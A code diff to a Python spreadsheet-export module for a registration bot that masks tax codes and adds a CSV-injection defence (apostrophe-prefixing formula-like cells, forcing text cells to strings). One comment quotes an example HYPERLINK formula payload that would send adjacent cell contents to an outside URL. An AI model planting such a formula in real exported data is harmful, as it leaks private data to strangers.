@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 from dataclasses import dataclass
 from datetime import date, datetime
 from typing import Any, Final, Literal
@@ -13,6 +14,7 @@ from bot.domain.enterprise_terms import KIND_NAMES, PRACTICE_NAMES, ROLE_NAMES, 
 from bot.domain.enterprise_terms import STATUS_NAMES as REGISTRATION_STATUS
 from bot.domain.phones import format_phone
 from bot.domain.sectors import sector_name
+from bot.domain.taxcode import mask_tax_code
 from storage.enterprises import Enterprise
 from storage.reports import BoothRow
 
@@ -21,6 +23,7 @@ __all__ = [
     "Table",
     "booth_table",
     "enterprise_table",
+    "neutral",
     "to_csv",
     "to_xlsx",
 ]
@@ -28,6 +31,12 @@ __all__ = [
 Kind = Literal["text", "number", "date", "datetime"]
 _FORMATS: Final = {"date": "DD/MM/YYYY", "datetime": "DD/MM/YYYY HH:MM"}
 _MIN_WIDTH, _MAX_WIDTH = 8, 50
+# OWASP, "CSV Injection": a cell starting with one of these is taken for a formula by Excel,
+# LibreOffice or Google Sheets; a registrant named =HYPERLINK("http://…?x="&A1,"…") would
+# send whatever the staff's sheet holds beside it to a stranger with one click.
+_FORMULA_START: Final = ("=", "+", "-", "@", "\t", "\r")
+# A number typed with its country code calls nothing, and a text cell shows it as typed.
+_PHONE: Final = re.compile(r"\+\d[\d ().-]*")
 
 # As staff read them (the applicants' wording is in bot/services/fair_view.py).
 BOOTH_STATUS: Final = {
@@ -124,7 +133,8 @@ def _table(columns: tuple[Column, ...], rows: list[list[Any]], lang: Lang, perso
 
 
 def enterprise_table(items: list[Enterprise], lang: Lang, *, personal: bool) -> Table:
-    """One row per registration; phones and tax codes only when `personal`."""
+    """One row per registration; phones and tax codes only when `personal`, personal ID
+    numbers masked even then (reviewers see them whole in the chat)."""
     _ = lang.gettext
 
     def names(table: dict[str, str], keys: list[str]) -> str:
@@ -142,7 +152,7 @@ def enterprise_table(items: list[Enterprise], lang: Lang, *, personal: bool) -> 
             e.address or "",
             e.contact_name,
             format_phone(e.phone),
-            e.tax_code or "",
+            mask_tax_code(e.tax_code),
             e.ocop_stars,
             e.products or "",
             names(PRACTICE_NAMES, e.practices),
@@ -170,7 +180,7 @@ def booth_table(items: list[BoothRow], lang: Lang, *, personal: bool) -> Table:
             b.enterprise_reference or "",
             b.contact_name,
             format_phone(b.phone),
-            b.tax_code or "",
+            mask_tax_code(b.tax_code),
             _place(lang, b.ward_code) or (b.province or ""),
             ", ".join(sector_name(k, _) for k in b.sectors),
             b.booths,
@@ -185,6 +195,17 @@ def booth_table(items: list[BoothRow], lang: Lang, *, personal: bool) -> Table:
         for b in items
     ]
     return _table(_BOOTH, rows, lang, personal)
+
+
+def neutral(text: str, *, in_workbook: bool = False) -> str:
+    """`text` with a leading apostrophe if a spreadsheet would take it for a formula
+    (OWASP's advice). In a workbook, where every text is a text cell, a phone number such as
+    `+84 912 345 678` stays as typed; in a CSV file Excel would still read it as a sum."""
+    if not (text.startswith(_FORMULA_START) or text.lstrip().startswith(_FORMULA_START)):
+        return text
+    if in_workbook and _PHONE.fullmatch(text):
+        return text
+    return "'" + text
 
 
 def _width(header: str, values: list[Any], kind: Kind) -> float:
@@ -212,7 +233,7 @@ def to_xlsx(table: Table, sheet_title: str) -> bytes:
     ws.title = sheet_title[:31]  # Excel's limit for sheet names
     ws.append(table.headers)
     for row in table.rows:
-        ws.append(row)
+        ws.append([neutral(v, in_workbook=True) if isinstance(v, str) else v for v in row])
     bold = Font(bold=True)
     for cell in ws[1]:
         cell.font = bold
@@ -224,6 +245,12 @@ def to_xlsx(table: Table, sheet_title: str) -> bytes:
         if kind in _FORMATS:
             for (cell,) in ws.iter_rows(min_row=2, min_col=i, max_col=i):
                 cell.number_format = _FORMATS[kind]
+        elif kind == "text":
+            # openpyxl makes a formula of any str starting with "=": text is text, whatever
+            # it starts with
+            for (cell,) in ws.iter_rows(min_row=2, min_col=i, max_col=i):
+                if isinstance(cell.value, str):
+                    cell.data_type = "s"
     ws.freeze_panes = "B2"  # the header row and the first column stay in view
     if table.rows:
         ws.auto_filter.ref = ws.dimensions
@@ -233,6 +260,8 @@ def to_xlsx(table: Table, sheet_title: str) -> bytes:
 
 
 def _csv_cell(value: Any) -> Any:
+    if isinstance(value, str):
+        return neutral(value)
     if isinstance(value, datetime):
         return value.strftime("%Y-%m-%d %H:%M")
     if isinstance(value, date):
